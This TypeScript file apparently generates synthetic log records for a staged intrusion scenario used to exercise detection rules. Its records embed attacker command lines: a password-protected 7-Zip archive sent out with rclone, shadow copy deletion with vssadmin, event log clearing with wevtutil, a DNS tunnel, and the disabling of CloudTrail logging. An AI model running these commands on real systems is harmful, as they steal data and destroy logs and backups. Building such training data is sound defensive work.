import { account, company, hosts, intruders } from '../company.ts'
import { cloudTrailRecord } from '../formats/cloudtrail.ts'
import { squidLine, vpnRecord, zeekConnection, zeekDns } from '../formats/network.ts'
import { securityLogCleared } from '../formats/security-log.ts'
import { connected, fileCreated, type Process, processStarted } from '../formats/sysmon.ts'
import { insideIp, stolen } from './credentials.ts'
import type { StoryStep } from './step.ts'

const consoleAgent = 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/115.0'
const copyAgent = 'rclone/v1.67.0'

const server = hosts.fileServer
const shell = { image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'C:\\Windows\\system32\\cmd.exe' }
const onServer = (image: string, commandLine: string): Process => ({
  image,
  commandLine,
  user: account(stolen),
  integrity: 'High',
  folder: 'C:\\ProgramData\\',
  parent: shell,
})

export const cloud: StoryStep = {
  title: 'The cloud account',
  account:
    'With keys found on the web server and the administrator’s password the intruders sign in without a second factor, make a key for another user, stop the trail and copy a bucket.',
  rules: [
    'AWS console login without a second factor',
    'AWS access key created for another user',
    'CloudTrail logging stopped or deleted',
    'S3 objects read with a mass copy tool',
  ],
  decisive: ['AWS console login without a second factor', 'CloudTrail logging stopped or deleted'],
  records: ({ at, random }) => {
    const who = { user: stolen.login, fromIp: intruders.loginIp, agent: consoleAgent }
    const bucket = 'larkfield-customer-calibrations'
    const copies = Array.from({ length: 60 }, (_, index) =>
      cloudTrailRecord(at(0.6 + index * 0.006), {
        ...who,
        agent: copyAgent,
        name: 'GetObject',
        service: 's3',
        readOnly: true,
        parameters: {
          bucketName: bucket,
          key: `certificates/2026/${random.int(10_000, 99_999)}.pdf`,
          Host: `${bucket}.s3.${company.awsRegion}.amazonaws.example`,
        },
      }),
    )
    return [
      cloudTrailRecord(at(0), {
        ...who,
        name: 'ConsoleLogin',
        service: 'signin',
        readOnly: false,
        response: { ConsoleLogin: 'Success' },
        extra: { LoginTo: 'https://console.aws.example/console/home', MobileVersion: 'No', MFAUsed: 'No' },
      }),
      cloudTrailRecord(at(0.15), { ...who, name: 'ListUsers', service: 'iam', readOnly: true, parameters: {} }),
      cloudTrailRecord(at(0.25), {
        ...who,
        name: 'CreateAccessKey',
        service: 'iam',
        readOnly: false,
        parameters: { userName: 'backup-operator' },
        response: { accessKey: { status: 'Active', userName: 'backup-operator', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' } },
      }),
      cloudTrailRecord(at(0.4), {
        ...who,
        name: 'StopLogging',
        service: 'cloudtrail',
        readOnly: false,
        parameters: { name: `arn:aws:cloudtrail:${company.awsRegion}:${company.awsAccount}:trail/company-trail` },
      }),
      cloudTrailRecord(at(0.5), { ...who, agent: copyAgent, name: 'ListBuckets', service: 's3', readOnly: true }),
      ...copies,
    ]
  },
}

export const tunnelling: StoryStep = {
  title: 'A tunnel of names',
  account: 'The file server sends a list of what it holds as long names in DNS questions, which no firewall stops.',
  rules: ['Very long name in a DNS question'],
  decisive: ['Very long name in a DNS question'],
  records: ({ at, random }) =>
    Array.from({ length: 80 }, (_, index) => {
      const name = `${random.hex(60)}.${random.hex(60)}.${index}.${intruders.tunnelDomain}`
      return zeekDns(at(index / 80), { fromIp: server.ip, name, type: 'TXT', answers: [`TXT 32 ${random.hex(32)}`] })
    }),
}

export const exfiltration: StoryStep = {
  title: 'Out with the data',
  account: 'Project folders are packed with a password and copied to a file store with rclone: five gigabytes.',
  rules: [
    'Archive with a password made on the command line',
    'Files copied to a cloud store with rclone',
    'Large upload to the outside',
  ],
  decisive: ['Files copied to a cloud store with rclone', 'Large upload to the outside'],
  records: ({ at }) => {
    const pack = onServer(
      'C:\\ProgramData\\7za.exe',
      'C:\\ProgramData\\7za.exe a -mx1 -v1g -pQ7-harbour C:\\ProgramData\\p.7z D:\\Shares\\Projects D:\\Shares\\Calibration',
    )
    const copy = onServer(
      'C:\\ProgramData\\rclone.exe',
      'rclone.exe copy C:\\ProgramData box:in --include "p.7z.*" --transfers 8 --no-check-certificate',
    )
    const store = { ip: intruders.storeIp, host: intruders.storeHost, port: 443 }
    const parts = [1_073_741_824, 1_073_741_824, 1_073_741_824, 1_073_741_824, 640_318_112]
    return [
      processStarted(server, at(0), pack),
      ...parts.map((_, index) =>
        fileCreated(server, at(0.05 + index * 0.05), pack, `C:\\ProgramData\\p.7z.00${index + 1}`),
      ),
      zeekDns(at(0.35), { fromIp: server.ip, name: store.host, answers: [store.ip] }),
      processStarted(server, at(0.36), copy),
      connected(server, at(0.38), copy, store),
      ...parts.flatMap((bytes, index) => [
        squidLine(at(0.45 + index * 0.1), {
          fromIp: server.ip,
          login: stolen.login,
          method: 'CONNECT',
          url: `${store.host}:443`,
          toIp: store.ip,
          bytes: 41_300,
          milliseconds: 88_210,
        }),
        zeekConnection(at(0.46 + index * 0.1), {
          fromIp: server.ip,
          toIp: store.ip,
          port: 443,
          service: 'ssl',
          sentBytes: bytes,
          receivedBytes: 41_300,
          durationSeconds: 88,
        }),
      ]),
    ]
  },
}

export const coveringTracks: StoryStep = {
  title: 'Tracks covered',
  account:
    'Logs are cleared on the file server and the domain controller, shadow copies deleted, and the tunnel closed.',
  rules: ['Event log cleared with wevtutil', 'Security log cleared', 'Shadow copies deleted'],
  decisive: ['Security log cleared', 'Shadow copies deleted'],
  records: ({ at }) => {
    const system = 'C:\\Windows\\System32'
    return [
      processStarted(server, at(0), onServer(`${system}\\vssadmin.exe`, 'vssadmin delete shadows /all /quiet')),
      processStarted(server, at(0.25), onServer(`${system}\\wevtutil.exe`, 'wevtutil cl Security')),
      securityLogCleared(server, at(0.28), stolen),
      processStarted(server, at(0.4), onServer(`${system}\\wevtutil.exe`, 'wevtutil cl System')),
      securityLogCleared(hosts.domainController, at(0.7), stolen),
      vpnRecord(at(0.95), {
        action: 'tunnel-down',
        login: stolen.login,
        publicIp: intruders.loginIp,
        insideIp,
        id: 2_000_000_001,
      }),
    ]
  },
}
